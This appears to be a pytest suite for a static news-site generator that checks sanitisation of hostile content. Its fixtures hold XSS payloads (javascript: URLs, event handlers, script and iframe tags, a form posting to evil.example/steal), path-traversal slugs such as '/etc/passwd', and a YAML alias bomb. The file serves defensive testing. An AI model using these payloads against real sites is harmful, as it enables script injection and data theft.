"""The model, and what it means for safety: untrusted items cannot inject script, unsafe URLs or paths.

Most tests look at one build of a hostile site (module fixture) the way a visitor's browser would: every
HTML page parsed, every attribute and script element checked.
"""

from __future__ import annotations

import json
from pathlib import Path

import html5lib
import pytest

from conftest import item, make_site
from generator.build.pipeline import BuildOptions, build
from generator.config.load import load_config

CONFIG = """\
title: Test News
base_url: https://example.org/news/
now: "2026-11-22T12:00:00Z"
topics:
  - name: Technology
  - name: AI
    parent: technology          # a parent may be named by slug
  - name: Robots
    parent: AI                  # or by name; grandchildren count for the grandparent too
  - name: Loop A
    parent: Loop B              # a cycle in the definitions must not hang the build
  - name: Loop B
    parent: Loop A
providers:
  - domain: daily.example
    name: The Daily Example
    logo: img/daily.png
    description: "A paper that exists only in tests."
"""

XSS_TITLE = "</title><script>alert(1)</script> 1 < 2 & 'q' > 0"
# plain text: tags removed, and a script's text with its tags (text.plain_text); the rest escaped once
XSS_SHOWN = "1 < 2 & 'q' > 0"
HOSTILE_BODY = """\
Intro with a [good link](https://ok.example/read) and a [bad link](javascript:alert(7)).

<script>alert(5)</script>
<img src="https://ok.example/pic.png" onerror="alert(6)" alt="pic">
<iframe src="https://evil.example/frame"></iframe>
<a href="vbscript:msgbox(1)">vb</a> <a href="data:text/html,<script>alert(8)</script>">data</a>
<svg onload="alert(9)"><circle r="1"/></svg>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="q"></form>
<p style="background:url(javascript:alert(10))" onclick="alert(11)">styled</p>
![data image](data:image/png;base64,AAAA)
<a href="mailto:tips@example.org">mail us</a>
"""

FILES = {
    "content/news/xss.md": f"""---
title: "{XSS_TITLE}"
excerpt: "<img src=x onerror=alert(2)> excerpt"
publishedDateTime: 2026-11-21T10:00:00Z
quality: 99
originalUrl: "javascript:alert(1)"
webUrl: "data:text/html,<script>alert(1)</script>"
ampWebUrl: "javascript:alert(1)"
type: video
featuredContent: "<iframe src=\\"javascript:alert(3)\\"></iframe><script>alert(4)</script><b>featured</b>"
provider:
  name: "Evil <i>Corp</i>"
  domain: evil.example
  images:
    - url: "javascript:alert(1)"
images:
  - url: "javascript:alert(1)"
  - url: "data:image/png;base64,AAAA"
related:
  - title: "Bad related"
    webUrl: "javascript:alert(2)"
  - title: "Good related"
    webUrl: "https://ok.example/related"
    provider:
      name: OK
      domain: ok.example
  - title: "Same story on this site"
    webUrl: "https://daily.example/robots"
topics: ["<b>Bold</b>", "Robots"]
---
{HOSTILE_BODY}""",
    "content/news/robots.md": item("Robots learn to fold laundry", date="2026-11-20T09:00:00Z",
                                   webUrl='"https://daily.example/robots"', topics="[Robots]",
                                   provider="{name: Daily, domain: daily.example}", quality=80, heat=40),
    "content/news/ai.md": item("A model explains itself", date="2026-11-19T09:00:00Z", topics="[ai, Loop A]",
                               provider="{name: Solo, domain: solo.example}", quality=20, heat=90),
    "content/news/embed.md": item("Allowed video", date="2026-11-18T09:00:00Z", type="video",
                                  featuredContent="'<iframe src=\"https://www.youtube.com/embed/abc123DEF45\"></iframe>'"),
    "content/news/elsewhere.md": item("Video elsewhere", date="2026-11-17T09:00:00Z", type="video",
                                      featuredContent="'<iframe src=\"https://videos.evil.example/v/1\"></iframe>'"),
    "content/news/slug-escape.md": item("Slug that climbs", slug='"../../x"'),
    "content/news/slug-absolute.md": item("Absolute slug", slug='"/etc/passwd"'),
    "content/news/slug-dots.md": item("Only dots", slug='".."'),
    "content/news/....md": item("File named with dots", date="2026-11-16T09:00:00Z"),
    "content/news/..%2F..%2Fevil.md": item("Encoded climb", date="2026-11-15T09:00:00Z"),
    "content/a/same.md": item("First of a pair", date="2026-11-14T09:00:00Z"),
    "content/b/same.md": item("Second of a pair", date="2026-11-14T09:00:00Z"),
    "content/news/topics.md": item("Topic names of every kind", date="2026-11-13T09:00:00Z",
                                   topics='["日本語", "🚀", "../../etc", "Crème brûlée"]',
                                   provider='{name: "Slash Provider", domain: "../../etc"}'),
    "content/news/a-very-long-file-name-that-goes-on-and-on-well-past-any-sensible-length-for-a-url-part-at-all.md":
        item("Long " * 200, date="2026-11-12T09:00:00Z"),
    "static/img/daily.png": "not really a png",
}


def snapshot(folder: Path, skip: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and skip not in p.parents}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    top = tmp_path_factory.mktemp("hostile")
    root = make_site(top / "site", FILES, CONFIG)
    (top / "outside.txt").write_text("must not change")
    before = snapshot(top, root / "output")
    result = build(load_config(root / "config.yaml"), BuildOptions(), environ={})
    out = root / "output"
    pages = {p.relative_to(out).as_posix(): html5lib.parse(p.read_bytes(), namespaceHTMLElements=False)
             for p in sorted(out.rglob("*.html"))}
    assert pages
    return {"top": top, "root": root, "out": out, "result": result, "before": before, "pages": pages,
            "items": {i.source: i for i in result.site.model.site.items}}


URL_ATTRIBUTES = ("href", "src", "srcset", "action", "formaction", "poster", "cite", "background", "data", "xlink:href")


def test_no_page_has_a_script_or_data_url(hostile):
    for name, page in hostile["pages"].items():
        for element in page.iter():
            for attribute, value in element.attrib.items():
                if attribute in URL_ATTRIBUTES or attribute.endswith("href"):
                    assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (name, element.tag, value)


def test_no_page_has_an_event_handler_or_injected_style(hostile):
    for name, page in hostile["pages"].items():
        for element in page.iter():
            assert not any(a.lower().startswith("on") for a in element.attrib), (name, element.tag, element.attrib)
            if name.startswith("news/"):
                assert "javascript" not in element.get("style", ""), (name, element.tag)
        assert page.find(".//form[@action='https://evil.example/steal']") is None
        assert "display: none" not in "".join(s.text or "" for s in page.iter("style"))


def test_no_script_from_content_runs_and_data_scripts_stay_data(hostile):
    for name, page in hostile["pages"].items():
        for script in page.iter("script"):
            kind = (script.get("type") or "text/javascript").lower()
            text = script.text or ""
            if "json" in kind:
                json.loads(text)  # JSON-LD and friends: still one JSON value, the title could not close the element
            else:
                assert "alert(" not in text, name
                assert script.get("src", "").startswith(("/news/", "https://example.org/news/")) or not script.get("src"), name


def test_the_only_iframes_are_allowed_video_players(hostile):
    for name, page in hostile["pages"].items():
        for frame in page.iter("iframe"):
            assert frame.get("src") == "https://www.youtube.com/embed/abc123DEF45", (name, frame.get("src"))
    embed = hostile["pages"]["news/2026/11/18/embed/index.html"]
    assert embed.find(".//iframe").get("src") == "https://www.youtube.com/embed/abc123DEF45"
    elsewhere = hostile["pages"]["news/2026/11/17/elsewhere/index.html"]
    links = [a.get("href") for a in elsewhere.iter("a")]
    assert "https://videos.evil.example/v/1" in links  # not embedded, but still reachable


def test_the_hostile_title_is_text_on_every_page(hostile):
    article = hostile["pages"]["news/2026/11/21/xss/index.html"]
    assert article.find(".//title").text.startswith(XSS_SHOWN)
    assert article.find(".//h1").text == XSS_SHOWN
    shown_on = [name for name, page in hostile["pages"].items()
                if any(XSS_SHOWN in "".join(a.itertext()) for a in page.iter("a"))]
    # (the lead of its story, by quality, with the robots item it declares as coverage: whose page links to it)
    assert {"index.html", "latest/index.html", "topics/robots/index.html",
            "news/2026/11/20/robots/index.html"} <= set(shown_on)


def test_body_html_is_sanitised_but_keeps_what_is_safe(hostile):
    body = hostile["pages"]["news/2026/11/21/xss/index.html"].find(".//div[@class='body']")
    links = {a.get("href") for a in body.iter("a") if a.get("href")}
    assert "https://ok.example/read" in links and "mailto:tips@example.org" in links
    assert all(not h.startswith(("javascript", "vbscript", "data")) for h in links)
    assert [i.get("src") for i in body.iter("img")] == ["https://ok.example/pic.png"]
    assert not any(e.tag in ("script", "iframe", "svg", "style", "form", "input") for e in body.iter())
    assert "bad link" in "".join(body.itertext())  # the text stays, without the link


def test_unsafe_urls_are_dropped_in_the_model(hostile):
    story = hostile["items"]["content/news/xss.md"]
    assert (story.original_url, story.web_url, story.amp_url, story.link) == ("", "", "", "")
    assert story.images == () and story.provider.images == ()
    assert story.video_url == "" and not story.embed
    assert [r.url for r in story.related] == ["https://ok.example/related", "https://daily.example/robots"]
    assert "<script" not in story.featured_html and "<iframe" not in story.featured_html
    assert "<b>featured</b>" in story.featured_html


def test_related_coverage_links_inside_when_the_story_is_on_the_site(hostile):
    article = hostile["pages"]["news/2026/11/21/xss/index.html"]
    related = {"".join(a.itertext()).strip(): a.get("href") for a in article.findall(".//section[@class='related']//a")}
    # (one story with the item it names, which the coverage lists under its own title)
    assert related["Robots learn to fold laundry"] == "/news/news/2026/11/20/robots/"
    assert related["Good related"] == "https://ok.example/related"
    assert "Bad related" not in related


# --- paths ----------------------------------------------------------------------------------------------

def test_no_content_can_write_outside_the_output_folder(hostile):
    assert snapshot(hostile["top"], hostile["root"] / "output") == hostile["before"]
    out = hostile["out"].resolve()
    written = list(hostile["out"].rglob("*"))
    assert written
    for path in written:
        assert out in path.resolve().parents


def test_slugs_are_made_safe(hostile):
    paths = {source: i.path for source, i in hostile["items"].items()}
    assert paths["content/news/slug-escape.md"] == "news/2026/11/20/x/"
    assert paths["content/news/slug-absolute.md"] == "news/2026/11/20/etc-passwd/"
    for source, path in paths.items():
        parts = path.strip("/").split("/")
        assert parts[0] == "news" and len(parts) == 5, (source, path)
        assert all(part and set(part) <= set("abcdefghijklmnopqrstuvwxyz0123456789-") for part in parts), (source, path)
        assert len(parts[-1]) <= 80
    long_slug = next(i.path for i in hostile["items"].values() if i.title.startswith("Long Long")).split("/")[-2]
    assert 60 <= len(long_slug) <= 80 and not long_slug.endswith("-")  # cut at a word boundary
    for name in hostile["pages"]:
        assert ".." not in name and not name.startswith("/")


def test_every_internal_link_resolves(hostile):
    from test_build import link_problems
    assert link_problems(hostile["out"], "https://example.org/news/") == []


def test_every_item_gets_its_own_page(hostile):
    paths = [i.path for i in hostile["items"].values()]
    assert len(paths) == len(set(paths))


def test_two_items_that_map_to_one_page_are_both_reported(hostile):
    result = hostile["result"]
    messages = [str(p) for p in result.site.problems] + [str(w) for w in result.site.warnings]
    about_pair = [m for m in messages if "same.md" in m]
    assert any(m.startswith("content/b/same.md:") and "content/a/same.md" in m for m in about_pair), about_pair
    assert any(m.startswith("content/a/same.md:") and "content/b/same.md" in m for m in about_pair), about_pair
    page = hostile["pages"]["news/2026/11/14/same/index.html"]
    assert page.find(".//h1").text == "First of a pair"  # the first by path keeps the page; the other gets its own
    second = hostile["items"]["content/b/same.md"].path
    assert second.startswith("news/2026/11/14/same-") and second in " ".join(about_pair)
    assert hostile["pages"][second + "index.html"].find(".//h1").text == "Second of a pair"
    report = result.report()
    assert [r["source"] for r in report["rejected"] if "same" in r["source"]] == []


def test_a_story_whose_page_name_another_pinned_still_gets_a_page(tmp_path):
    # Two stories named x.md on one day: the second gets x-<hash>/. A third whose `slug:` is that very name (a
    # page pinned with the name the build gave) left the second out, with an error, though it can be shown.
    first = {"content/a/x.md": item("First"), "content/b/x.md": item("Second")}
    result = build(load_config(make_site(tmp_path / "one", first) / "config.yaml"), BuildOptions(write=False),
                   environ={})
    moved = {i.title: i.slug for i in result.site.model.site.items}["Second"]
    files = {**first, "content/c/y.md": item("Pinned", slug=moved)}
    result = build(load_config(make_site(tmp_path / "two", files) / "config.yaml"), BuildOptions(write=False),
                   environ={})
    assert result.site.problems == ()
    paths = {i.title: i.path for i in result.site.model.site.items}
    assert sorted(paths) == ["First", "Pinned", "Second"] and len(set(paths.values())) == 3
    assert paths["Pinned"].endswith(f"/{moved}/") and paths["First"].endswith("/x/")


def test_slug_only_dots_still_gets_a_page(hostile):
    assert hostile["items"]["content/news/slug-dots.md"].path.startswith("news/2026/11/20/")


# --- topics and providers --------------------------------------------------------------------------------

def test_topic_names_of_any_kind_get_safe_pages(hostile):
    site = hostile["result"].site.model.site
    names = {t.name: slug for slug, t in site.topics.items()}
    for name in ("日本語", "🚀", "../../etc", "Crème brûlée", "Bold"):  # (written `<b>Bold</b>`)
        slug = names[name]
        assert set(slug) <= set("abcdefghijklmnopqrstuvwxyz0123456789-"), slug
        page = hostile["pages"][f"topics/{slug}/index.html"]
        assert page.find(".//h1").text == name
    assert names["Crème brûlée"] == "creme-brulee"


def test_topic_parents_list_their_descendants_items(hostile):
    site = hostile["result"].site.model.site
    assert site.topics["ai"].parent == "technology" and site.topics["robots"].parent == "ai"
    sources = lambda slug: sorted(site.items[i].source for i in site.topic_items[slug])  # noqa: E731
    assert sources("robots") == ["content/news/robots.md", "content/news/xss.md"]
    assert sources("ai") == ["content/news/ai.md", "content/news/robots.md", "content/news/xss.md"]
    assert sources("technology") == sources("ai")
    for slug in ("technology", "ai", "robots"):
        titles = {"".join(a.itertext()).strip() for a in hostile["pages"][f"topics/{slug}/index.html"].iter("a")}
        # the card of the robots item's story (the hostile item leads it)
        assert any(XSS_SHOWN in title for title in titles)


def test_a_cycle_in_topic_parents_ends(hostile):
    site = hostile["result"].site.model.site
    # loop-b has no item, and the cycle gives it none of loop-a's: it gets no page, and loop-a no parent
    assert "loop-a" in site.topics and "loop-b" not in site.topics and not site.topics["loop-a"].parent
    assert [site.items[i].source for i in site.topic_items["loop-a"]] == ["content/news/ai.md"]


def test_topic_names_match_case_insensitively(hostile):
    assert hostile["items"]["content/news/ai.md"].topics[0] == "ai"  # written `ai`, defined as `AI`


def test_providers_take_facts_from_config_and_count_from_items(hostile):
    site = hostile["result"].site.model.site
    daily = site.providers["daily-example"]
    assert (daily.name, daily.domain, daily.count, daily.avg_quality) == ("The Daily Example", "daily.example", 1, 80.0)
    assert daily.logo.url == "static/img/daily.png"  # config's `img/daily.png` is a file in static/
    assert daily.description == "A paper that exists only in tests."
    page = hostile["pages"]["providers/daily-example/index.html"]
    assert "Robots learn to fold laundry" in {"".join(a.itertext()).strip() for a in page.iter("a")}
    solo = site.providers["solo-example"]
    assert solo.logo is None and solo.monogram == "S"
    assert site.providers["etc"].domain == "../../etc" and (hostile["out"] / "providers/etc/index.html").is_file()


def test_distinct_topic_names_get_distinct_pages(tmp_path):
    """`C`, `C++` and `C#` are three topics; merging them would file stories under the wrong language."""
    root = make_site(tmp_path / "site", {"content/c.md": item("C story", topics="[C]"),
                                         "content/cpp.md": item("C++ story", topics='["C++"]'),
                                         "content/cs.md": item("C# story", topics='["C#"]')})
    site = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={}).site.model.site
    assert len(site.topics) == 3, {slug: t.name for slug, t in site.topics.items()}
    for slug, topic in site.topics.items():
        assert [site.items[i].title for i in site.topic_items[slug]] == [f"{topic.name} story"]




def test_a_smartable_data_folder_gives_topics_and_provider_logos(tmp_path):
    root = make_site(tmp_path / "site", {
        "content/a.md": item("Canvas story", topics="[Canvas apps]", provider="{name: Tiny, domain: tiny.example}"),
        "content/b.md": item("Other story", date="2026-11-19T10:00:00Z", provider="{name: Sneaky, domain: sneaky.example}"),
        "data/topics/00-apps.yaml": "_id: apps\nname: Apps\ndescription: From the record\n",
        "data/topics/01-canvas.yaml": "_id: canvas-apps\nname: Canvas apps\nparent: Apps\n",
        "data/topics/02-broken.yaml": "_id: broken\nname: [unclosed\n",
        "data/organizations/tiny.example.md": ("---\n_id: tiny.example\nname: Tiny Times\nimages:\n"
                                               "  - url: /assets/images/organizations/tiny.example-50x50.jpg\n---\n"),
        "data/organizations/sneaky.example.md": "---\n_id: sneaky.example\nname: Sneaky\nimages:\n  - url: /../secret.jpg\n---\n",
        "assets/images/organizations/tiny.example-50x50.jpg": "jpeg bytes",
    }, "title: T\nbase_url: https://example.org/\nnow: \"2026-11-22T12:00:00Z\"\ndata_dir: data\n"
       "topics:\n  - name: Apps\n    description: From config.yaml\n")
    (tmp_path / "secret.jpg").write_text("outside the site")
    result = build(load_config(root / "config.yaml"), BuildOptions(), environ={})
    site, out = result.site.model.site, root / "output"
    assert site.topics["canvas-apps"].parent == "apps"
    assert site.topics["apps"].description == "From config.yaml"  # config.yaml wins over a record
    [problem] = result.site.problems  # reported with path and line; the other records still count
    assert problem.path == "data/topics/02-broken.yaml" and problem.line in (2, 3)  # 3: where PyYAML notices
    tiny = site.providers["tiny-example"]
    assert tiny.name == "Tiny Times" and (out / tiny.logo.url).read_text() == "jpeg bytes"
    assert site.providers["sneaky-example"].logo is None
    assert not any(p.read_bytes() == b"outside the site" for p in out.rglob("*") if p.is_file())
    from test_build import link_problems
    assert link_problems(out, "https://example.org/") == []


def test_topic_records_are_read_within_the_limits_of_items_front_matter(tmp_path):
    # Topic records were loaded by PyYAML alone: nine aliases of nine, eight deep, made a name of 9**8 strings
    # (the build ran out of memory making its text), and a list for a name made a topic "['a', 'b']".
    bomb = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    bomb += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 6)] + ["name: *a5"]
    root = make_site(tmp_path / "site", {
        "data/topics/bomb.yaml": "\n".join(bomb) + "\n",
        "data/topics/list.yaml": "_id: list\nname: [a, b]\n",
        "data/topics/quote.yaml": "_id: quote\nname: \"unclosed\ndescription: x\n",
        "data/topics/fine.yaml": "_id: fine\nname: Fine &amp; well\n",
        "content/a.md": item("A story", topics="[Fine & well]"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/topics/bomb.yaml:4: topic record uses more than 20 YAML aliases "
        "(write the values out instead of using *aliases)",
        "data/topics/list.yaml:2: `name` of a topic record must be text (put the value in quotes, on one line)",
        "data/topics/quote.yaml:2: invalid YAML in topic record: found unexpected end of stream "
        "(while scanning a quoted scalar on line 2) (close the quote)"]
    assert {slug: t.name for slug, t in result.site.model.site.topics.items()} == {"fine": "Fine & well"}


def test_an_organization_record_whose_name_is_no_text_is_said_and_left_out(tmp_path):
    # A list for a name made the provider "['A', 'News']" on every card of its stories.
    root = make_site(tmp_path / "site", {
        "data/organizations/a.md": "---\n_id: a.example\nname: [A, News]\n---\n",
        "data/organizations/b.md": "---\n_id: b.example\nname: B &amp; Co\ndescription: {x: 1}\n---\n",
        "content/a.md": item("A story", provider="{name: A, domain: a.example}"),
        "content/b.md": item("B story", provider="{name: B, domain: b.example}"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/organizations/a.md:3: `name` of an organization record must be text "
        "(put the value in quotes, on one line)",
        "data/organizations/b.md:4: `description` of an organization record must be text "
        "(put the value in quotes, on one line)"]
    assert {p.name for p in result.site.model.site.providers.values()} == {"A", "B"}


def test_a_record_field_that_is_nan_is_left_out_at_its_line(tmp_path):
    # pandas and JSON writers put NaN for a missing value, which YAML writes `.nan`: a topic record's
    # `description: .nan` showed "nan" under the topic, an organization named `.nan` was the provider "nan"
    # (its monogram N), and a topic `parent: .nan` made a topic "nan". As in an item's nested name
    # (fields.as_plain), NaN and the infinities are no text: the field is left out, said at its line; a
    # topic without its name is left out.
    root = make_site(tmp_path / "site", {
        "data/topics/space.yaml": "_id: space\nname: Space\nparent: .nan\ndescription: .NaN\n",
        "data/topics/none.yaml": "_id: none\nname: -.inf\n",
        "data/organizations/o.md": "---\n_id: o.example\nname: .nan\ndescription: .inf\n---\n",
        "data/organizations/d.yaml": "_id: d.example\nname: Dated\ndescription: 2026-11-20\n",
        "content/a.md": item("A story", topics="[space]", provider="{name: O, domain: o.example}"),
        "content/d.md": item("D story", provider="{name: D, domain: d.example}"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/topics/none.yaml:2: `name` of a topic record is NaN or infinite (a writer's value for none); "
        "the record is left out (write the name as text)"]
    assert sorted(str(w) for w in result.site.warnings) == [
        f"data/{path}:{line}: `{key}` of the {what} record is NaN or infinite (a writer's value for none); it is "
        f"left out (write the {key} as text, or remove `{key}`)"
        for path, line, key, what in [("organizations/o.md", 3, "name", "organization"),
                                      ("organizations/o.md", 4, "description", "organization"),
                                      ("topics/space.yaml", 3, "parent", "topic"),
                                      ("topics/space.yaml", 4, "description", "topic")]]
    site = result.site.model.site
    assert {slug: (t.name, t.parent, t.description) for slug, t in site.topics.items()} == {
        "space": ("Space", "", "")}
    names = {p.domain: (p.name, p.description) for p in site.providers.values()}
    assert names == {"o.example": ("O", ""), "d.example": ("Dated", "2026-11-20")}


def test_records_are_read_from_yaml_or_markdown_files_alike(tmp_path):
    # Another site's records were in the other kind of file (a topic as Markdown with front matter, an
    # organization as YAML): they were not read, and their topics and providers went without names or logos.
    root = make_site(tmp_path / "site", {
        "data/topics/robots.md": "---\n_id: robots\nname: Robots\nkeywords: [robot]\n---\n",
        "data/topics/space.yml": "_id: space\nname: Space\n",
        "data/organizations/orbit.yaml": "_id: orbit.example\nname: Orbit Wire\n",
        "data/organizations/bad.yml": "_id: bad.example\nname: [no, text]\n",
        "content/a.md": item("A story", topics="[robots, space]", provider="{name: o, domain: orbit.example}"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/organizations/bad.yml:2: `name` of an organization record must be text "
        "(put the value in quotes, on one line)"]
    assert {slug: t.name for slug, t in result.site.model.site.topics.items()} == {"robots": "Robots",
                                                                                  "space": "Space"}
    assert {p.name for p in result.site.model.site.providers.values()} == {"Orbit Wire"}


def test_provider_records_whose_logo_files_have_one_name_each_show_their_own(tmp_path):
    # A records folder with a folder per provider, each holding its logo.png (or Logo.PNG): every
    # logo was copied to assets/providers/logo.png, and every provider showed the last one copied there.
    record = "---\n_id: {0}.example\nname: {0} News\nimages:\n  - url: /assets/{1}\n---\n"
    logos = {"a": "a/logo.png", "b": "b/logo.png", "c": "c/Logo.PNG", "d": "d/logo.png"}
    files = {f"data/organizations/{p}.md": record.format(p, logo) for p, logo in logos.items()}
    files.update({f"assets/{logo}": f"{p}'s logo" for p, logo in logos.items()})
    files.update({f"content/{p}.md": item(f"{p} story", provider=f"{{name: {p}, domain: {p}.example}}") for p in logos})
    root = make_site(tmp_path / "site", files, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(), environ={})
    providers, out = result.site.model.site.providers, root / "output"
    assert [(out / providers[f"{p}-example"].logo.url).read_text() for p in logos] == [f"{p}'s logo" for p in logos]
    from test_build import link_problems
    assert link_problems(out, "https://example.org/") == []


def test_provider_records_with_unusable_logos_build_and_say_so(tmp_path):
    # `images: 5` stopped the build with a traceback, and so did a logo path no file can have (too long, a NUL).
    root = make_site(tmp_path / "site", {
        "data/organizations/a.md": "---\n_id: a.example\nname: A News\nimages: 5\n---\n",
        "data/organizations/b.md": ("---\n_id: b.example\nname: B News\nimages:\n  - url: \"/assets/b\\0.png\"\n"
                                    f"  - url: /assets/{'x' * 5000}.png\n  - 7\n  - url: /assets/b.png\n---\n"),
        "assets/b.png": "b's logo",
        "content/a.md": item("A story", provider="{name: A, domain: a.example}"),
        "content/b.md": item("B story", provider="{name: B, domain: b.example}"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(), environ={})
    providers = result.site.model.site.providers
    assert providers["a-example"].name == "A News" and providers["a-example"].logo is None
    assert (root / "output" / providers["b-example"].logo.url).read_text() == "b's logo"
    assert [(w.path, w.line) for w in result.site.warnings] == [("data/organizations/a.md", 4),
                                                                ("data/organizations/b.md", 4)]
    assert "`images` must be a list" in result.site.warnings[0].message
    assert "(and 1 more) is no http or https URL and no picture file" in result.site.warnings[1].message
    assert "shown with its other logos" in result.site.warnings[1].message


@pytest.mark.parametrize("url, kept", [
    ("https://example.org/a?b=c#d", True), ("http://example.org", True), ("HTTPS://EXAMPLE.ORG/", "https://example.org/"),
    ("javascript:alert(1)", False), ("JaVaScRiPt:alert(1)", False), (" javascript:alert(1)", False),
    ("java\tscript:alert(1)", False), ("data:text/html,<b>x</b>", False), ("vbscript:x", False),
    ("file:///etc/passwd", False), ("//evil.example/x", False), ("/relative/path", False),
    ("https:///nohost", "https://nohost"), ("https://", False), ("https:///", False), ("https:", False),
    ('https://example.org/"onmouseover=alert(1)', False), ("https://example.org/a b", False),
    ("https:\\\\evil.example", "https://evil.example"), ("mailto:x@example.org", False), (None, False), (42, False),
    ("https://example.org:99999/", False), ("https://example.org:8o/x", False), ("https://example.org:0/", False),
    ("https://example.org:8080/x", True),
])
def test_safe_url(url, kept):
    from generator.urls import safe_url
    assert safe_url(url) == (kept if isinstance(kept, str) else url.strip() if kept else "")  # (str: as it is kept)


@pytest.mark.parametrize("text, slug", [
    ("Hello, World!", "hello-world"), ("Crème brûlée à la carte", "creme-brulee-a-la-carte"),
    ("../../etc/passwd", "etc-passwd"), ("  --Already-Slugged--  ", "already-slugged"), ("C++", "c-plus-plus"), ("Q&A", "q-and-a"),
    ("Ünïcödé 2026", "unicode-2026"), ("日本語", "ribenyu"),
])
def test_slugify(text, slug):
    from generator.urls import slugify
    assert slugify(text) == slug


def test_slugify_is_bounded_and_never_empty():
    from generator.urls import MAX_SLUG, slugify
    long = slugify("word " * 100)
    assert len(long) <= MAX_SLUG and not long.endswith("-") and long.startswith("word-word")
    assert len(slugify("x" * 500)) == MAX_SLUG  # one long word is cut, not dropped
    emoji = {slugify(text) for text in ("🚀", "🎉", "🚀🚀", "", "!!!")}
    assert len(emoji) == 5 and all(s and set(s) <= set("abcdefghijklmnopqrstuvwxyz0123456789-") for s in emoji)


@pytest.mark.parametrize("base", ["https://e.org/", "https://e.org/sub/", "http://localhost:8000/", "https://e.org/a/b/"])
def test_site_url_and_origin_url_agree_with_urljoin(base):
    # They are urljoin without its cost for plain paths; for every other path they must still be urljoin.
    from urllib.parse import urljoin

    from generator.urls import origin_url, site_url

    relative = ["news/2026/x/", "", "feeds/top.xml", "a b/é", "/x", "./x", "../x", "x/../y", "?q", "#f", "http://e/x",
                "a:b", "x/./y", "x%20y", "x//y", "topics/c++/", "x.", "x..y", "a/b.", "a/.b", "\\x", "mailto:x"]
    for path in relative:
        assert site_url(base, path) == urljoin(base, path), path
    for path in ["/sub/x", "/x/y/", "/", "//evil/x", "/a/../b", "/é ü", "/x?y", "http://x/", "/a//b", "/a/.", "/a/b."]:
        assert origin_url(base, path) == urljoin(base, path), path


def test_items_naming_one_provider_or_topics_alike_each_keep_their_own(tmp_path):
    """Items that write the same provider or topics are read into one shared value (memory); any difference,
    a logo or the order of the topics, is still each item's own."""
    provider = "{{name: Wire, domain: wire.example, images: [{{url: 'https://wire.example/{}.png'}}]}}"
    root = make_site(tmp_path / "site", {
        "content/news/a.md": item("Alpaca farms", "2026-11-20T10:00:00Z", provider=provider.format("one"),
                                  topics="[AI, Science]"),
        "content/news/b.md": item("Bridge repairs", "2026-11-20T11:00:00Z", provider=provider.format("one"),
                                  topics="[AI, Science]"),
        "content/news/c.md": item("Comet sighting", "2026-11-20T12:00:00Z", provider=provider.format("two"),
                                  topics="[Science, AI]"),
    })
    config = load_config(root / "config.yaml")
    build(config, BuildOptions(workers=1))
    news = json.loads((config.output_path / "api" / "news" / "index.json").read_text(encoding="utf-8"))["news"]
    shown = {record["title"]: ([image["url"] for image in record["provider"]["images"]], record["topics"])
             for record in news}
    assert shown == {
        "Alpaca farms": (["https://wire.example/one.png"], ["AI", "Science"]),
        "Bridge repairs": (["https://wire.example/one.png"], ["AI", "Science"]),
        "Comet sighting": (["https://wire.example/two.png"], ["Science", "AI"]),
    }


def test_a_records_key_quoted_inside_another_is_not_taken_for_the_records_own(tmp_path):
    # The line of a record's key was the first `"name":` on any line, indented or beside a `{`: a key quoted in
    # a nested mapping (`meta:` then `  "name": ...`, or `{"sameAs": ...}`) was taken for the record's own, and
    # the message named that line, not the one to fix. A key `"a.b"` is the key a.b, nothing of `a`.
    root = make_site(tmp_path / "site", {
        "data/topics/ai.yaml": 'meta:\n  "name": [nested]\n  "a.b": 1\nname: [AI, x]\n_id: ai\n',
        "data/organizations/ex.yaml": '"meta.name": 1\ninfo: {"sameAs": 3}\nother:\n  \'sameAs\': 4\n'
                                      'sameAs: [ftp://x]\n_id: example.com\nname: Example\n',
        "data/organizations/js.md": '{\n  "info": {"name": "Nested"},\n  "_id": "js.example",\n  "name": ["J", "S"]\n}\n',
        "content/a.md": item("A story", provider="{name: Ex, domain: example.com}"),
    }, "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/organizations/js.md:4: `name` of an organization record must be text "
        "(put the value in quotes, on one line)",
        "data/topics/ai.yaml:4: `name` of a topic record must be text (put the value in quotes, on one line)"]
    [warning] = [str(w) for w in result.site.warnings if "sameAs" in str(w)]
    assert warning.startswith("data/organizations/ex.yaml:5: `sameAs` of the organization record"), warning
    # (the other records still count)
    assert [p.name for p in result.site.model.site.providers.values()] == ["Example"]


def test_an_organization_yaml_record_without_its_domain_is_said_at_a_line_it_has(tmp_path):
    # Said at line 2, the line after a Markdown record's `---`: a YAML record of one line has no line 2.
    root = make_site(tmp_path / "site", {"data/organizations/noid.yaml": "name: No Domain\n",
                                         "content/a.md": item("A story")},
                     "title: T\nbase_url: https://example.org/\ndata_dir: data\n")
    result = build(load_config(root / "config.yaml"), BuildOptions(write=False), environ={})
    assert [str(p) for p in result.site.problems] == [
        "data/organizations/noid.yaml:1: organization record has no `_id` or `domain` (add the organization's "
        "domain, e.g. `domain: example.com`: items name their provider by it)"]
